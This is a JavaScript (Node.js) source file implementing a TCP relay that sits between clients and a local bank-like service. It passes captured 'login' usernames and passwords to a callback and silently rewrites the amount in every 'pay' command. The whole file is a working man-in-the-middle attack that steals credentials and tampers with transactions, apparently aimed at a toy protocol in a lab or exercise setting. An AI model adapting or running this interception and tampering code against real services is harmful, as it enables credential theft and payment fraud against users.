import { connect, createServer } from 'node:net';
import { Transform } from 'node:stream';

/**
 * Starts a relay between clients and the port `target`, and returns it
 * (a net.Server). For each line `login <name> <password>` it calls
 * `heard(name, password)`; in each line `pay <number> to <name>` it puts
 * `amount` in the number's place. Everything else goes through as it is,
 * in both directions; what cannot become such a line, at once.
 */
export function startRelay(port, target, { heard, amount }) {
  const server = createServer({ allowHalfOpen: true }, client => {
    const bank = connect({ port: target, host: '127.0.0.1', allowHalfOpen: true });
    client.on('error', () => bank.destroy());
    bank.on('error', () => client.destroy());
    client.pipe(lineByLine(line => meddled(line))).pipe(bank);
    bank.pipe(client);
  });
  server.listen(port, '127.0.0.1');
  return server;

  function meddled(line) {
    const [, name, password] = /^login (\S+) (.+)\n$/.exec(line) ?? [];
    if (name) heard(name, password);
    return line.replace(/^pay \d+ to (?=.+\n$)/, `pay ${amount} to `);
  }
}

/** Passes on what `change` makes of each line that begins like one of ours, and all the rest at once. */
function lineByLine(change) {
  let rest = Buffer.alloc(0);
  let ofNoInterest = false;
  return new Transform({
    transform(chunk, encoding, done) {
      rest = Buffer.concat([rest, chunk]);
      for (let end = rest.indexOf('\n'); end >= 0; end = rest.indexOf('\n')) {
        const line = rest.subarray(0, end + 1);
        // What is no text must not become text on the way.
        const asItIs = ofNoInterest || !beginsLikeOurs(line);
        this.push(asItIs ? line : change(line.toString()));
        ofNoInterest = false;
        rest = rest.subarray(end + 1);
      }
      if (rest.length > 0 && (ofNoInterest || !beginsLikeOurs(rest))) {
        ofNoInterest = true;
        this.push(rest);
        rest = Buffer.alloc(0);
      }
      done();
    },
    flush(done) {
      done(null, rest);
    },
  });
}

function beginsLikeOurs(bytes) {
  const text = bytes.toString('latin1', 0, 6);
  return ['login ', 'pay '].some(word => text.startsWith(word) || word.startsWith(text));
}
